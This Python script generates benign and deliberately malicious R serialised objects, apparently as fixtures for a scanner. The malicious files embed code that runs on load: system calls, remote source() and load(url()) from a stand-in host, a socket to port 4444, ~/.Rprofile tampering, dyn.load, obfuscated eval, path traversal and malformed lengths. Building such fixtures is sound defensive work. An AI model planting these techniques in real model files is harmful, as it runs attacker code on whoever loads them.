"""Writes malicious/ and benign/ of R's saved objects anew.

Needs: Rscript of Debian's r-base-core 4.2.2 (with r-recommended's packages left out: only what R itself brings).
Benign files are written by R. Malicious ones are written by R where it can, and else by the few lines below, which write
the serialisation format as R Internals, section 1.8, describes it. Payloads echo a word.
"""
import bz2
import gzip
import lzma
import pathlib
import shutil
import struct
import subprocess

HERE = pathlib.Path(__file__).resolve().parent
GOOD = HERE / "benign"
BAD = HERE / "malicious"
for folder in (GOOD, BAD):
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()

BENIGN = r"""
set.seed(1); options(keep.source = FALSE)
d <- data.frame(x = 1:20, g = factor(rep(c("a", "b"), 10)), y = rnorm(20) + 1:20, n = rpois(20, 4))
save_as <- function(object, name, ...) saveRDS(object, file.path(folder, paste0(name, ".rds")), ...)
fit <- lm(y ~ x + g, data = d)
save_as(fit, "lm"); save_as(fit, "lm_v2", version = 2); save_as(fit, "lm_plain", compress = FALSE)
save_as(fit, "lm_ascii", ascii = TRUE); save_as(fit, "lm_bz2", compress = "bzip2"); save_as(fit, "lm_xz", compress = "xz")
save_as(summary(fit), "summary_lm"); save_as(terms(fit), "terms"); save_as(y ~ poly(x, 2) + log(n + 1), "formula")
save_as(glm(n ~ x, family = poisson, data = d), "glm_poisson"); save_as(glm(g ~ y, family = binomial, data = d), "glm_binomial")
save_as(nls(y ~ a + b * x, d, start = list(a = 0, b = 1)), "nls"); save_as(loess(y ~ x, d), "loess")
save_as(smooth.spline(d$x, d$y), "smooth_spline"); save_as(splinefun(d$x, d$y), "splinefun"); save_as(ecdf(d$y), "ecdf")
save_as(approxfun(d$x, d$y), "approxfun"); save_as(prcomp(d[c("x", "y")]), "prcomp"); save_as(kmeans(d$y, 2), "kmeans")
save_as(hclust(dist(d$y)), "hclust"); save_as(aov(y ~ g, d), "aov"); save_as(arima(d$y, c(1, 0, 0)), "arima")
save_as(HoltWinters(ts(d$y), gamma = FALSE, beta = FALSE), "holt_winters"); save_as(t.test(d$y), "t_test")
save_as(density(d$y), "density"); save_as(factanal(matrix(rnorm(120), 20), 2), "factanal"); save_as(ppr(y ~ x, data = d, nterms = 1), "ppr")
save_as(step(lm(y ~ x, d), trace = 0), "step"); save_as(optim(c(1, 1), function(p) sum(p^2)), "optim"); save_as(d, "data_frame")
save_as(list(a = 1L, b = "two", c = NULL, d = c(TRUE, NA), e = 1i, f = as.raw(1:3), g = list(list())), "list")
save_as(1:1000000, "altrep_sequence"); save_as(as.character(1:10), "altrep_strings"); save_as(letters, "letters")
save_as(function(x, y = 2) { if (x > y) sum(x, y) else stats::median(c(x, y)) }, "closure")
made <- (function(rate) { force(rate); function(x) x * rate })(3); save_as(made, "closure_environment")
late <- (function(rate, unused) function(x) x * rate)(3, stop("never")); save_as(late, "closure_waiting_argument")
compiled <- compiler::cmpfun(function(n) { s <- 0; for (i in seq_len(n)) s <- s + i; tryCatch(s, error = function(e) NA) }); save_as(compiled, "byte_code")
e <- new.env(); e$weights <- rnorm(3); e$self <- e; save_as(e, "environment"); save_as(globalenv(), "global_environment")
setClass("Model", representation(weights = "numeric", name = "character")); save_as(new("Model", weights = 1:3 / 3, name = "m"), "s4")
Counter <- setRefClass("Counter", fields = list(n = "numeric"), methods = list(add = function() { n <<- n + 1 })); save_as(Counter$new(n = 0), "reference_class")
save_as(quote(f(x, y = 2)), "call"); save_as(expression(a + b, sin(a)), "expression"); save_as(deriv(~ x^2, "x"), "derivative")
save_as(as.Date("2026-01-01") + 0:2, "dates"); save_as(table(d$g), "table"); save_as(ts(1:24, frequency = 12), "time_series")
save_as(structure(list(fit = fit, call = quote(train(y ~ x, data = read.csv("d.csv"))), preprocess = function(z) scale(z)), class = "pipeline"), "pipeline")
save_as(stepfun(1:3, 0:3), "stepfun"); save_as(Negate(is.na), "negate"); save_as(numeric_version("1.2.3"), "version"); save_as(NULL, "null")
wrapper <- function(formula, data) { f <- match.call(); f[[1]] <- quote(stats::lm); eval(f, parent.frame()) }; save_as(wrapper, "eval_call")
save_as(wrapper(y ~ x, d), "lm_in_function"); save_as(Vectorize(function(a, b) a + b), "vectorize")
save(fit, d, file = file.path(folder, "workspace.RData")); save(fit, file = file.path(folder, "workspace_v2.rda"), version = 2)
save(d, file = file.path(folder, "workspace_ascii.RData"), ascii = TRUE); save(made, late, file = file.path(folder, "workspace_xz.rda"), compress = "xz")
con <- file(file.path(folder, "little_endian.rds"), "wb"); serialize(fit, con, xdr = FALSE); close(con)
"""

MALICIOUS = r"""
options(keep.source = FALSE)
d <- data.frame(x = 1:5, y = c(2, 4, 6, 8, 11)); fit <- lm(y ~ x, d)
save_as <- function(object, name, ...) saveRDS(object, file.path(folder, paste0(name, ".rds")), ...)
poison <- function(call) { m <- fit; m$call <- call; m }
save_as(poison(quote(system("echo surety"))), "call_system"); save_as(poison(quote(base::system2("echo", "surety"))), "call_system2")
save_as(poison(quote(eval(parse(text = "system('echo surety')")))), "call_eval_parse")
save_as(poison(quote(do.call("system", list("echo surety")))), "call_do_call")
save_as(poison(quote(get("system")("echo surety"))), "call_get"); save_as(poison(quote(sapply("echo surety", system))), "call_sapply")
save_as(poison(quote((function() shell("echo surety"))())), "call_inline_function")
save_as(poison(quote(source("http://198.51.100.7/x.R"))), "call_source")
save_as(poison(quote(eval(parse(text = rawToChar(as.raw(c(115, 121))))))), "call_raw_text")
m <- fit; attr(m$terms, "predvars") <- quote(list(y, { download.file("http://198.51.100.7/x", "/tmp/surety"); x })); save_as(m, "terms_download")
save_as(y ~ I(system("echo surety")), "formula_system"); save_as(expression(pipe("echo surety")), "expression_pipe")
save_as(function(x) { system("echo surety"); x }, "closure_system"); save_as(compiler::cmpfun(function(x) { system("echo surety"); x }), "byte_code_system")
save_as(function(x, y = system("echo surety")) x, "closure_default"); save_as(list(predict = function(m, d) { install.packages("surety"); d }), "closure_install")
save_as(list(pre = function(x) eval(parse(text = rawToChar(as.raw(c(115, 121)))))), "closure_raw_text")
save_as(list(load = function(p) dyn.load("/tmp/surety.so")), "closure_dyn_load"); save_as(list(a = function() socketConnection("198.51.100.7", 4444)), "closure_socket")
e <- new.env(); delayedAssign("weights", system("echo surety"), assign.env = e); save_as(e, "environment_promise")
e <- new.env(); makeActiveBinding("weights", function() system("echo surety"), e); save_as(e, "active_binding")
f <- function(x) x; environment(f) <- new.env(); assign("helper", function() system("echo surety"), environment(f)); save_as(f, "environment_function")
s <- structure(list(), class = "model"); attr(s, "hook") <- function() shell.exec("surety"); save_as(s, "attribute_function")
.First <- function() cat("surety"); save(.First, file = file.path(folder, "first.RData"))
.Last <- function() cat("surety"); x <- 1; save(x, .Last, file = file.path(folder, "last.rda"))
print <- function(...) base::cat("surety"); save(print, d, file = file.path(folder, "masked_print.RData")); rm(print)
`(` <- function(x) x; save(list = "(", file = file.path(folder, "masked_bracket.RData")); rm(`(`)
save_as(function(x) { reticulate::py_run_string("import os"); x }, "closure_python"); save_as(quote(.Internal(system("echo surety", TRUE))), "call_internal")
m <- poison(quote(system("echo surety"))); save_as(m, "call_ascii", ascii = TRUE); save_as(m, "call_v2", version = 2); save_as(m, "call_bzip2", compress = "bzip2"); save_as(m, "call_xz", compress = "xz")
con <- file(file.path(folder, "call_little_endian.rds"), "wb"); serialize(m, con, xdr = FALSE); close(con)
save_as(function() source("http://198.51.100.7/x.R"), "closure_source"); save_as(function() cat("x", file = "~/.Rprofile", append = TRUE), "closure_rprofile")
save_as(list(update = function(m) { load(url("http://198.51.100.7/x.RData")); m }), "closure_load_url")
setClass("Model", representation(run = "function")); save_as(new("Model", run = function() system("echo surety")), "s4_function")
"""



def run_file(script, folder):
    path = HERE / "made.R"
    path.write_text(f'folder <- "{folder}"\n{script}')
    try:
        subprocess.run(["Rscript", "--vanilla", str(path)], check=True, stdout=subprocess.DEVNULL)
    finally:
        path.unlink()


run_file(BENIGN, GOOD)
run_file(MALICIOUS, BAD)


# ---- what R does not write
def whole(value):
    return struct.pack(">i", value)


class Writer:
    """Objects in the XDR form; symbols are written once and referred to after that."""

    def __init__(self, version=2):
        self.symbols = {}
        self.head = b"X\n" + whole(version) + whole(0x040202) + whole(0x020300)
        if version == 3:
            self.head += whole(5) + b"UTF-8"

    def text(self, value):
        return whole(0x00040009) + whole(len(value)) + value.encode()

    def strings(self, *values):
        return whole(16) + whole(len(values)) + b"".join(self.text(value) for value in values)

    def symbol(self, name):
        if name in self.symbols:
            return whole(self.symbols[name] << 8 | 255)
        self.symbols[name] = len(self.symbols) + 1
        return whole(1) + self.text(name)

    def call(self, function, *arguments):
        out = whole(6) + self.symbol(function)
        for argument in arguments:
            out += whole(2) + argument
        return out + whole(254)

    def promise(self, expression, value=whole(252)):
        return whole(5 | 1 << 10) + whole(253) + value + expression  # environment, value, expression


NIL = whole(254)


def bad(name, make, version=2, packed=None):
    writer = Writer(version)
    content = writer.head + make(writer)
    (BAD / f"{name}.rds").write_bytes(packed(content) if packed else content)


def system(w):
    return w.call("system", w.strings("echo surety"))


bad("promise_top", lambda w: w.promise(system(w)))
bad("promise_top_v3", lambda w: w.promise(system(w)), 3, lambda c: gzip.compress(c, mtime=0))
bad("promise_top_bz2", lambda w: w.promise(system(w)), 3, bz2.compress)
bad("promise_top_xz", lambda w: w.promise(system(w)), 3, lzma.compress)
bad("promise_harmless_call", lambda w: w.promise(w.call("sum", w.strings("1"))))
bad("promise_in_list", lambda w: whole(19) + whole(2) + w.strings("weights") + w.promise(system(w)))
bad("promise_in_attribute", lambda w: whole(19 | 1 << 9) + whole(0) + whole(2 | 1 << 10) + w.symbol("names") + w.promise(system(w)) + NIL)
bad("promise_of_symbol", lambda w: w.promise(w.symbol("unknown_binding")))
bad("promise_of_promise", lambda w: w.promise(w.promise(system(w))))
bad("promise_eval_parse", lambda w: w.promise(w.call("eval", w.call("parse", w.strings("payload.R")))))
bad("byte_code_bare_symbol", lambda w: whole(3 | 1 << 10) + whole(253) + NIL + whole(21) + whole(1) + whole(13) + whole(1) + whole(11) + whole(1) + whole(1) + w.symbol("system"))
bad("altrep_mapped_file", lambda w: whole(238) + whole(2) + w.symbol("mmap_real") + whole(2) + w.symbol("base") + whole(2) + whole(13) + whole(1) + whole(14) + NIL + whole(2) + w.strings("/etc/hostname") + NIL + NIL)
bad("namespace_path", lambda w: whole(249) + whole(0) + whole(2) + w.text("../../tmp/surety") + w.text("1.0"))
bad("persistent", lambda w: whole(247) + whole(0) + whole(1) + w.text("outside"))
bad("call_of_text", lambda w: whole(6) + w.strings("system") + whole(2) + w.strings("echo surety") + NIL)
bad("length_huge", lambda w: whole(16) + whole(0x7FFFFFFF))
bad("length_negative", lambda w: whole(13) + whole(-5))
bad("length_2_48", lambda w: whole(14) + whole(-1) + whole(65000) + whole(0))
bad("reference_outside", lambda w: whole(19) + whole(1) + whole(900 << 8 | 255))
bad("type_unknown", lambda w: whole(77))
bad("deep", lambda w: (whole(19) + whole(1)) * 20000)
bad("broken_off", lambda w: whole(19) + whole(3) + system(w))
good = gzip.decompress((GOOD / "letters.rds").read_bytes())
(BAD / "second_object.rds").write_bytes(good + good)
(BAD / "workspace_promise.RData").write_bytes(gzip.compress((lambda w: b"RDX2\n" + w.head + whole(2 | 1 << 10) + w.symbol("model") + w.promise(system(w)) + NIL)(Writer()), mtime=0))
(BAD / "renamed.bin").write_bytes((BAD / "promise_top_v3.rds").read_bytes())
